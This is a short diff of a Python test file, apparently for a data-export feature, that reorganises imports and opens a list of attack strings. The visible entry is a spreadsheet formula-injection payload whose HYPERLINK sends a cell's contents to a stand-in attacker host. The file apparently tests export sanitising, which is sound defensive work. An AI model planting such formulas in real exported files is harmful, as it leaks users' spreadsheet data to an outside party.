@@ -13,7 +13,8 @@ import polars as pl
 import pytest
 
 from app import export
-from semon import auditlog, cli, masking, settings
+from cli import main as cli
+from semon import auditlog, masking, settings
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?"&A1;"klik")',
